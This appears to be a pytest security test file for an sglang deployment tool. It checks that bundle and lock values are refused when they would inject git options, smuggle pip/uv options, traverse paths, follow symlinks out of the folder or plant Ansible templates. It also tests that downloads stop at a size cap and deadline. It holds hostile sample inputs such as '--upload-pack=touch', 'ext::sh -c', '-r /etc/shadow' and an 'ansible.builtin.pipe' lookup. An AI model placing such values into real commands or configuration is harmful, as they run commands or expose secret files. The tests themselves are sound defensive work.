"""Hostile stack bundles and locks (issue 20): what a bundle hands to git, uv and pip cannot be read as an option or
a command, secrets in URLs stay out of errors, a lock is read only beside its bundle, and a download stops at a size
cap and a deadline."""

from __future__ import annotations

import contextlib
import http.server
import subprocess
import sys
import threading
import time

import pytest
import yaml
from ansible_json import needs_playbook, run_playbook

from sglang_deploy.locks import stack_files, stack_lock
from ansible_collections.sglang.deploy.plugins.module_utils import stack, wheel_fetch
from sglang_deploy.cli import main
from sglang_deploy.paths import REPO, STACKS


def floating(**change) -> dict:
    bundle = yaml.safe_load((STACKS / "nightly.yml").read_text())
    for key, value in change.items():
        section, _, sub = key.partition("__")
        if sub:
            bundle[section] = {**bundle[section], sub: value}
        else:
            bundle[section] = value
    return bundle


@pytest.fixture
def repo(tmp_path):
    """A local git repository with one commit on branch main; returns (path, commit)."""
    path = tmp_path / "repo"
    git = ["git", "-C", str(path), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    (path / "python").mkdir()
    (path / "python" / "pyproject.toml").write_text("[project]\nname = 'sglang'\n")
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "x"], check=True)
    return path, subprocess.run([*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()


def write_bundle(folder, bundle: dict) -> None:
    folder.mkdir(exist_ok=True)
    (folder / f"{bundle['name']}.yml").write_text(yaml.safe_dump(bundle))


def test_a_git_source_that_git_reads_as_an_option_runs_nothing(tmp_path, repo, capsys):
    """The red team's bundle: git ls-remote took --upload-pack=COMMAND as an option and ran it."""
    marker = tmp_path / "PWNED"
    bundle = floating(sglang={"git": f"--upload-pack=touch {marker}; true", "ref": str(repo[0])})
    write_bundle(tmp_path / "stacks", bundle)
    assert (
        main(["stack", "lock", "nightly", "--stacks-dir", str(tmp_path / "stacks"), "--wheelhouse", str(tmp_path)]) == 2
    )
    assert "sglang.git: begins with '-': git would read it as an option" in capsys.readouterr().err
    assert not marker.exists()


@pytest.mark.parametrize(
    "url",
    [
        "--upload-pack=touch /tmp/x",
        "-c",
        "-cprotocol.ext.allow=always",
        "ext::sh -c touch% /tmp/x",
        "ext::sh",
        "fd::17",
        "ssh://-oProxyCommand=touch%20x/repo",
        "-oProxyCommand=x@host:repo",
        "https://github.com/a b",
        "https://github.com/a\nb",
        "git://github.com/sgl-project/sglang",
        "http://github.com/sgl-project/sglang",
        "relative/path",
        "../repo",
        "",
        ["https://github.com/sgl-project/sglang"],
    ],
)
def test_git_urls_other_than_the_accepted_forms_are_refused(url):
    problems = stack.git_source_problems({"git": url, "ref": "main"})
    assert len(problems) == 1 and problems[0].startswith("sglang.git: ")
    assert str(url) not in problems[0] or url in ("", "-c")  # a URL may hold a password: never repeated


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/sgl-project/sglang",
        "https://token:x-oauth@github.com/sgl-project/sglang.git",
        "ssh://git@github.com:22/sgl-project/sglang.git",
        "git@github.com:sgl-project/sglang.git",
        "file:///srv/git/sglang",
        "/srv/git/sglang",
    ],
)
def test_git_urls_of_the_accepted_forms_pass(url):
    assert stack.git_source_problems({"git": url, "ref": "v0.5.23"}) == []


@pytest.mark.parametrize(
    "ref", ["--upload-pack=x", "-c", "--", "main..x", "main^{}", "HEAD@{1}", "a b", "a\nb", "/main", "x.lock", "a:b"]
)
def test_refs_that_are_not_branch_or_tag_names_are_refused(ref):
    problems = stack.git_source_problems({"git": "https://github.com/sgl-project/sglang", "ref": ref})
    assert len(problems) == 1 and problems[0].startswith("sglang.ref ")


@pytest.mark.parametrize("subdirectory", ["../..", "/etc", "-x", "python/../..", ".git"])
def test_a_subdirectory_outside_the_checkout_is_refused(subdirectory):
    problems = stack.git_source_problems({"git": "/srv/sglang", "subdirectory": subdirectory})
    assert len(problems) == 1 and problems[0].startswith("sglang.subdirectory ")


def test_git_runs_no_transport_helper_even_past_the_checks(tmp_path):
    """Every git call allows only https, ssh and file: ext:: (a command) is refused by git itself."""
    marker = tmp_path / "PWNED"
    with pytest.raises(stack_lock.LockError, match="transport 'ext' not allowed"):
        stack_lock._git(["ls-remote", "--", f"ext::sh -c touch% {marker}"], "git ls-remote")
    assert not marker.exists()


def test_a_branch_resolves_and_checks_out_through_every_git_call(tmp_path, repo, monkeypatch):
    path, commit = repo
    assert stack_lock.resolve_commit(str(path), "main") == commit
    assert stack_lock.resolve_commit(f"file://{path}", "main") == commit
    with pytest.raises(stack_lock.LockError, match="git ref 'no-such' not found"):
        stack_lock.resolve_commit(str(path), "no-such")
    built, real = [], stack_lock._run
    monkeypatch.setattr(  # git runs, uv build is recorded
        stack_lock, "_run", lambda argv, what, **kw: real(argv, what, **kw) if argv[0] == "git" else built.append(argv)
    )
    with pytest.raises(ValueError):  # the stand-in build wrote no wheel
        stack_lock.build_git_wheel("uv", floating(sglang={"git": str(path)}), commit, tmp_path, tmp_path)
    assert built[-1][-1] == str((tmp_path / "sglang-src" / "python").resolve())


def test_a_subdirectory_link_out_of_the_checkout_is_refused(tmp_path, repo):
    path, _ = repo
    git = ["git", "-C", str(path), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "rm", "-q", "-r", "python"], check=True)
    (path / "python").symlink_to(tmp_path)
    subprocess.run([*git, "add", "python"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "link"], check=True)
    commit = stack_lock.resolve_commit(str(path), "main")
    with pytest.raises(stack_lock.LockError, match="sglang.subdirectory: a link that leads out of the repository"):
        stack_lock.build_git_wheel("uv", {"sglang": {"git": str(path)}}, commit, tmp_path / "out", tmp_path)


SECRET = "hunter2-SECRET-LINE"


def stable(**change) -> dict:
    bundle = yaml.safe_load((STACKS / "stable-0.5.23.yml").read_text())
    return {**bundle, **change}


def test_an_extra_package_that_is_an_option_never_reaches_uv(tmp_path, capsys):
    """-r FILE in extra_packages made uv read FILE and echo its lines (a file of secrets) in the error."""
    secrets = tmp_path / "secrets.txt"
    secrets.write_text(f"{SECRET}\n")
    write_bundle(tmp_path / "stacks", stable(extra_packages=[f"-r {secrets}"]))
    argv = ["stack", "lock", "stable-0.5.23", "--stacks-dir", str(tmp_path / "stacks"), "--wheelhouse", str(tmp_path)]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "extra_packages[0]: not a requirement beginning with a package name, or it holds an option" in err
    assert SECRET not in err and str(secrets) not in err


@pytest.mark.parametrize(
    "change, key",
    [
        ({"extra_packages": ["nvidia-ml-py --index-url=https://evil/simple"]}, "extra_packages[0]"),
        ({"extra_packages": ["ok", "x\n-r /etc/shadow"]}, "extra_packages[1]"),
        ({"extra_packages": ["./local/project"]}, "extra_packages[0]"),
        ({"extra_packages": [" -c /etc/shadow"]}, "extra_packages[0]"),
        ({"torch": {"version": "2.14.1\n-r /etc/shadow"}}, "torch.version"),
        ({"sglang": {"version": "0.5.23 -r x"}}, "sglang.version"),
        ({"flashinfer": {"package": "-r", "version": "1"}}, "flashinfer.package"),
        ({"torch": {"version": "1", "index_url": "--index-url=https://evil"}}, "torch.index_url"),
        ({"extra_index_urls": ["https://x/simple\n-r /etc/shadow"]}, "extra_index_urls[0]"),
        ({"index_url": "-r"}, "index_url"),
        ({"python": "3.12 --no-build-isolation"}, "python"),
        ({"prerelease": "--allow"}, "prerelease"),
        ({"exclude_newer": "-x"}, "exclude_newer"),
        ({"platform": "x86_64-manylinux_2_35 -r x"}, "platform"),
    ],
)
def test_values_uv_or_pip_would_read_as_options_or_lines_are_refused(change, key):
    problems = stack_lock.floating_errors(stable(**change))
    assert len(problems) == 1 and problems[0].startswith(key), problems


@pytest.mark.parametrize("python", ["3.11/../../../tmp/evil", "3 -c import os", "3.12\n"])
def test_a_python_that_is_not_a_version_is_refused_on_the_host_too(python):
    """The role runs python<version> as root on the host, and its plan checks with stack.validate, which took any text."""
    bundle = yaml.safe_load((STACKS / "stable-0.5.23-2026-11-30.yml").read_text())
    assert stack.validate({**bundle, "python": python}) == [f"python {python!r}: a Python version such as '3.12'"]


def test_the_shipped_bundles_and_ordinary_requirements_pass():
    assert (
        stack_lock.floating_errors(stable(extra_packages=["nvidia-ml-py>=12", 'foo[a,b]==1; python_version>"3"'])) == []
    )
    assert stack_lock.floating_errors(stable(index_url="https://user:pw@mirror.example/simple")) == []
    assert stack_lock.floating_errors(floating()) == []


def test_urls_with_a_password_are_masked_in_every_error(tmp_path):
    url = f"https://svc:{SECRET}@mirror.example/simple"
    with pytest.raises(stack_lock.LockError) as failed:  # what uv or git print on failure
        stack_lock._run(["sh", "-c", f"echo 'cannot reach {url}' >&2; exit 1"], f"uv pip compile --index={url}")
    assert SECRET not in str(failed.value) and "https://svc:***@mirror.example/simple" in str(failed.value)
    # a lock's URL with credentials: urllib reads user:password@host as a host and a port
    entry = {"file": "a-1-py3-none-any.whl", "sha256": "0" * 64, "url": f"http://svc:{SECRET}@127.0.0.1:1/a.whl"}
    with pytest.raises(stack_lock.LockError) as failed:
        stack_files.fetch({"packages": [entry]}, tmp_path)
    assert SECRET not in str(failed.value)
    assert "a-1-py3-none-any.whl: download from http://127.0.0.1 failed: " in str(failed.value)


@pytest.fixture
def locked_stacks(tmp_path):
    """stacks/ with the shipped locked bundle and its lock, and a file outside it that holds a secret (not YAML)."""
    stacks = tmp_path / "stacks"
    stacks.mkdir()
    for name in ("stable-0.5.23-2026-11-30.yml", "stable-0.5.23-2026-11-30.lock.yml"):
        (stacks / name).write_text((STACKS / name).read_text())
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "key.lock.yml").write_text(f"{SECRET}: [\n")
    return stacks, outside / "key.lock.yml"


@pytest.mark.parametrize("file", ["/PRIVATE", "../private/key.lock.yml", "x/../../private/key.lock.yml", "", 7])
def test_a_lock_file_outside_the_stacks_folder_is_never_read(locked_stacks, capsys, file):
    stacks, secret = locked_stacks
    bundle = yaml.safe_load((stacks / "stable-0.5.23-2026-11-30.yml").read_text())
    bundle["lock"]["file"] = str(secret) if file == "/PRIVATE" else file
    (stacks / "stable-0.5.23-2026-11-30.yml").write_text(yaml.safe_dump(bundle))
    assert main(["stack", "fetch", "stable-0.5.23-2026-11-30", "--stacks-dir", str(stacks)]) == 2
    err = capsys.readouterr().err
    assert "lock.file: the file name of a lock beside the bundle (NAME.lock.yml, no folder)" in err
    assert SECRET not in err


def test_links_out_of_the_stacks_folder_are_never_read(locked_stacks, tmp_path, capsys):
    stacks, secret = locked_stacks
    lock = stacks / "stable-0.5.23-2026-11-30.lock.yml"
    lock.unlink()
    lock.symlink_to(secret)
    assert main(["stack", "fetch", "stable-0.5.23-2026-11-30", "--stacks-dir", str(stacks)]) == 2
    err = capsys.readouterr().err
    assert "lock stable-0.5.23-2026-11-30.lock.yml in " in err and "is a link to a file outside it" in err
    assert SECRET not in err
    assert main(["stack", "prune", "--stacks-dir", str(stacks), "--wheelhouse", str(tmp_path / "house")]) == 2
    err = capsys.readouterr().err
    assert "is a link to a file outside it" in err and "nothing pruned" in err and SECRET not in err
    (stacks / "evil.yml").symlink_to(secret)
    assert main(["stack", "lock", "evil", "--stacks-dir", str(stacks)]) == 2
    err = capsys.readouterr().err
    assert "bundle evil.yml in " in err and SECRET not in err
    assert main(["stack", "lock", "../private/key.lock", "--stacks-dir", str(stacks)]) == 2
    assert "bundle name '../private/key.lock': lower-case letters" in capsys.readouterr().err


class _HostileWheels(http.server.BaseHTTPRequestHandler):
    """hostile_server's answers; `stopping` (an Event, set per server) ends the endless ones."""

    stopping: threading.Event

    def do_GET(self):
        if self.path.startswith("/headers"):
            self.wfile.write(b"HTTP/1.1 200 OK\r\nX-Drip: ")
            self._drip(b"X")
            return
        self.send_response(200)
        if self.path.startswith("/huge"):
            self.send_header("Content-Length", str(100 * 10**9))
        elif not self.path.startswith("/endless"):
            self.send_header("Content-Length", str(10**5))
        self.end_headers()
        if self.path.startswith("/short"):
            self.wfile.write(b"0123456789")
            return
        with contextlib.suppress(OSError):
            if self.path.startswith("/endless"):
                while not self.stopping.is_set():
                    self.wfile.write(b"x" * 65536)
            elif self.path.startswith("/drip"):
                self._drip(b"x")
            else:
                self.stopping.wait()

    def _drip(self, byte: bytes) -> None:
        """A byte every 50 ms until the server stops."""
        while not self.stopping.is_set():
            self.wfile.write(byte)
            self.wfile.flush()
            time.sleep(0.05)

    def log_message(self, *args):
        pass


@pytest.fixture
def hostile_server(tmp_path):
    """Wheels that never end: /endless streams without a length, /drip sends a byte every 50 ms, /silent sends its
    headers and nothing more, /headers drips its headers a byte at a time, /huge announces 100 GB; /short closes
    after 10 of the bytes it announced."""
    stopping = threading.Event()
    handler = type("Handler", (_HostileWheels,), {"stopping": stopping})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    stopping.set()
    server.shutdown()


def wheel_entry(url: str, name: str) -> dict:
    return {"name": name, "version": "1", "file": f"{name}-1-py3-none-any.whl", "url": url + name, "sha256": "0" * 64}


@pytest.mark.parametrize(
    "path, message",
    [
        ("endless", "sent more than the cap of 0.00 GB per wheel"),
        ("huge", "announces 100.00 GB, over the cap of 0.00 GB per wheel"),
        ("drip", "stopped at the deadline of the fetch after 0.0 MB"),
        ("silent", "stopped at the deadline of the fetch after 0.0 MB"),
        ("headers", "stopped at the deadline of the fetch after 0.0 MB"),
    ],
)
def test_a_download_stops_at_the_size_cap_or_the_deadline_and_leaves_nothing(hostile_server, tmp_path, path, message):
    import threading

    house, failed = tmp_path / "house", []

    def fetch() -> None:
        try:
            stack_files.fetch({"packages": [wheel_entry(hostile_server, path)]}, house, max_bytes=10**6, timeout=1.5)
        except stack_lock.LockError as exc:
            failed.append(str(exc))

    worker = threading.Thread(target=fetch, daemon=True)  # a download that never ends fails the test, not the run
    worker.start()
    worker.join(60)  # guards a hang, not speed: the message below says the 1.5 s deadline (or the cap) stopped it
    assert not worker.is_alive() and len(failed) == 1
    assert f"{path}-1-py3-none-any.whl: download from http://127.0.0.1 failed: {message}" in failed[0]
    assert "1 stopped by the size cap or the deadline, leaving no file" in failed[0]
    assert list(house.iterdir()) == []  # no wheel, no .part


def test_stack_fetch_takes_the_bounds_from_the_command_line(locked_stacks, tmp_path, monkeypatch):
    stacks, _ = locked_stacks
    seen = {}
    monkeypatch.setattr(stack_files, "fetch", lambda lock, house, **bounds: seen.update(bounds) or 1 / 0)
    argv = ["stack", "fetch", "stable-0.5.23-2026-11-30", "--stacks-dir", str(stacks), "--wheelhouse", str(tmp_path)]
    with pytest.raises(ZeroDivisionError):
        main([*argv, "--timeout", "5", "--max-wheel-gb", "0.5"])
    assert seen == {"jobs": 4, "max_bytes": 5 * 10**8, "timeout": 5.0}


def test_an_interrupted_fetch_stops_its_other_downloads_and_leaves_nothing(hostile_server, tmp_path):
    import threading

    stop = threading.Event()
    stop.set()  # what fetch_wheels sets when Ctrl-C reaches it
    with pytest.raises(wheel_fetch.DownloadStopped, match="interrupted"):
        wheel_fetch.download(hostile_server + "endless", str(tmp_path / "a-1-py3-none-any.whl"), stop=stop)
    assert list(tmp_path.iterdir()) == []


# Second hostile pass over the fixes above.


@pytest.mark.parametrize(
    "bundle, problem",
    [
        (stable(name="stable\n"), "name: "),  # '$' matched before a final line break
        (floating(sglang={"git": "/srv/sglang", "commit": "a" * 40 + "\n"}), "sglang.commit: "),
        (floating(sglang={"git": "host::x", "ref": "main"}), "sglang.git: names a git transport helper"),
        (floating(sglang={"git": "EXT::sh -c id", "ref": "main"}), "sglang.git: names a git transport helper"),
        (floating(sglang={"git": "/srv/sglang", "ref": "main", "subdirectory": "py\n"}), "sglang.subdirectory "),
        (stable(flashinfer={"package": "flashinfer-python[ -r x]", "version": "1"}), "flashinfer.package "),
        (stable(lock="x"), "lock.file: "),
    ],
)
def test_line_breaks_helpers_and_spaced_extras_are_refused(bundle, problem):
    assert [p for p in stack.validate(bundle) if p.startswith(problem)], stack.validate(bundle)


@pytest.mark.parametrize("char", ["\u202e", "\x85", "\x9b", "\u2066", "\u2028", "\u200b", "\ufeff"])
def test_a_lock_entry_or_a_bundle_value_with_a_bidi_override_or_a_c1_control_is_refused(char):
    """A stack lock's file names and URLs reach the role's loop labels and the errors ansible-playbook prints; only
    C0 and DEL were refused in a bundle's values, nothing in a lock's URL (issue 48, R15)."""
    good = {"file": "torch-2.9.1-cp312-cp312-manylinux_2_28_x86_64.whl", "sha256": "0" * 64}
    url = f"https://files.example/evil{char}lhw.whl"
    assert stack.entry_problems([{**good, "url": "https://files.example/torch.whl"}]) == []
    assert stack.entry_problems([{**good, "url": url}]) == [
        f"{good['file']}: its url is not http(s):// or file://, or holds a control character (lock the bundle again)"
    ]
    assert stack.entry_problems([{**good, "file": f"evil{char}lhw.whl"}]) == [
        f"file {f'evil{char}lhw.whl'!r} is not a wheel's file name (lock the bundle again)"
    ]
    problems = stack.validate(stable(extra_packages=[f"nvidia-ml-py{char}>=12"]))
    assert [p for p in problems if p.startswith("extra_packages[0]: not a requirement")], problems
    problems = stack.validate(stable(extra_index_urls=[f"https://mirror.example/{char}simple"]))
    assert [p for p in problems if p.startswith("extra_index_urls[0]: an index URL")], problems


def test_an_ipv6_https_host_is_not_a_transport_helper():
    assert stack.git_source_problems({"git": "https://[::1]:8443/sgl-project/sglang", "ref": "main"}) == []


def test_a_lock_that_is_not_a_mapping_is_named_once_instead_of_failing():
    bundle = stable(lock="x")
    assert stack.check_lock(bundle, {}) == []  # no AttributeError on the host
    assert [p for p in stack.validate(bundle) if p.startswith("lock.file")] == stack.lock_file_problems(bundle)


def run_stack_role(stacks, tmp_path, *args: str):
    """The sglang_stack role on localhost in check mode with the bundles of ``stacks``: the run and its JSON report."""
    role = {"name": "sglang_stack"}
    play = [{"hosts": "localhost", "gather_facts": False, "tasks": [{"ansible.builtin.include_role": role}]}]
    (tmp_path / "play.yml").write_text(yaml.safe_dump(play))
    return run_playbook(
        ["-i", "localhost,", "-c", "local", "--check", "-e", f"sglang_stack_bundles_dir={stacks}", "play.yml"]
        + ["-e", f"ansible_python_interpreter={sys.executable}", *args],
        tmp_path,
        {"ANSIBLE_ROLES_PATH": str(REPO / "roles")},
    )


@needs_playbook
def test_the_stack_role_reads_no_lock_outside_the_bundles_folder(locked_stacks, tmp_path):
    """The role's include_vars loaded lock.file from any path, and its variables showed in the run's output."""
    stacks, secret = locked_stacks
    secret.write_text(f"token: {SECRET}\n")  # a valid YAML mapping: loaded, not just echoed in an error
    bundle = yaml.safe_load((stacks / "stable-0.5.23-2026-11-30.yml").read_text())
    bundle["lock"]["file"] = "../private/key.lock.yml"
    (stacks / "stable-0.5.23-2026-11-30.yml").write_text(yaml.safe_dump(bundle))
    out, doc = run_stack_role(stacks, tmp_path)
    assert doc["stats"]["localhost"]["failures"] == 1
    assert SECRET not in out.stdout + out.stderr


def test_stack_lock_replaces_a_link_planted_at_its_output_instead_of_writing_through_it(tmp_path, monkeypatch):
    stacks = tmp_path / "stacks"
    stacks.mkdir()
    victim = tmp_path / "victim"
    victim.write_text("mine\n")
    for suffix in (".yml", ".lock.yml"):
        (stacks / f"stable-0.5.23-2026-12-01{suffix}").symlink_to(victim)
    wheels = [
        {"name": name, "version": version, "file": f"{name}-{version}-py3-none-any.whl", "url": None}
        | {"sha256": "0" * 64, "sha256_from": "index"}
        for name, version in (("torch", "2.14.1"), ("flashinfer-python", "0.7.2"), ("sglang", "0.5.23"))
    ]
    monkeypatch.setattr(stack_lock, "_compile", lambda *args, **kwargs: {"packages": []})
    monkeypatch.setattr(stack_lock, "_entries", lambda pylock, bundle, *rest: [] if not bundle["torch"] else wheels)
    monkeypatch.setattr(stack_lock, "uv_version", lambda uv: "0.9.0")
    import datetime

    result = stack_lock.lock(stable(hashes={}), stacks, tmp_path / "house", today=datetime.date(2026, 12, 1))
    assert victim.read_text() == "mine\n"
    assert not result.lock_file.is_symlink() and not result.bundle_file.is_symlink()
    assert stack_files.load_lock(stack_files.load_bundle("stable-0.5.23-2026-12-01", stacks), stacks)["packages"]


@pytest.mark.parametrize(
    "option", [["--jobs", "0"], ["--jobs", "100000"], ["--timeout", "nan"], ["--max-wheel-gb", "-1"]]
)
def test_stack_fetch_refuses_bounds_that_bound_nothing(option, capsys):
    with pytest.raises(SystemExit) as exited:
        main(["stack", "fetch", "x", *option])
    assert exited.value.code == 2


def test_a_body_cut_short_is_an_error_and_leaves_nothing(hostile_server, tmp_path):
    with pytest.raises(OSError, match="cut short: 10 of the 100000 bytes it announced"):
        wheel_fetch.download(hostile_server + "short", str(tmp_path / "a-1-py3-none-any.whl"))
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(OSError, match="is not a regular file"):  # a device or a FIFO would never end
        wheel_fetch.download("file:///dev/zero", str(tmp_path / "a-1-py3-none-any.whl"))


@pytest.mark.parametrize("url", ["https://ghp_TOKEN@127.0.0.1:1/x", "https://svc:ghp_TOKEN@127.0.0.1:1/x"])
def test_a_token_in_a_git_url_stays_out_of_git_errors(url):
    with pytest.raises(stack_lock.LockError) as failed:
        stack_lock.resolve_commit(url, "main")
    assert "ghp_TOKEN" not in str(failed.value) and "git ls-remote https://127.0.0.1:1/x main failed" in str(
        failed.value
    )


@needs_playbook
@pytest.mark.parametrize("planted_in", ["stable-0.5.23-2026-11-30.yml", "stable-0.5.23-2026-11-30.lock.yml"])
def test_a_template_planted_in_a_bundle_or_its_lock_runs_nothing_on_the_controller(locked_stacks, tmp_path, planted_in):
    """The role read both with include_vars, which evaluated a template in them when the bundle was used."""
    stacks, _ = locked_stacks
    marker = tmp_path / "PWNED"
    path = stacks / planted_in
    path.write_text(path.read_text() + f"note: \"{{{{ lookup('ansible.builtin.pipe', 'touch {marker}') }}}}\"\n")
    _, doc = run_stack_role(stacks, tmp_path, "-e", f"sglang_stack_root={tmp_path / 'root'}")
    assert not marker.exists()
    plan = [t for t in doc["plays"][0]["tasks"] if t["task"]["name"].endswith("plan its venv")]
    assert plan, "the role stopped before its plan"  # the planted text was read as a value


@needs_playbook
@pytest.mark.parametrize("linked", ["stable-0.5.23-2026-11-30.yml", "stable-0.5.23-2026-11-30.lock.yml"])
def test_the_stack_role_reads_no_link_out_of_the_bundles_folder(locked_stacks, tmp_path, linked):
    """A bundle or lock that was a link to a file outside the folder (git keeps links) was loaded, and its values
    were shown by the load task (the json callback, -v)."""
    stacks, secret = locked_stacks
    secret.write_text(f"token: {SECRET}\npackages: []\n")
    (stacks / linked).unlink()
    (stacks / linked).symlink_to(secret)
    out, doc = run_stack_role(stacks, tmp_path)
    assert SECRET not in out.stdout + out.stderr
    assert "is a link to a file outside it: bundles and locks are read only there" in out.stdout
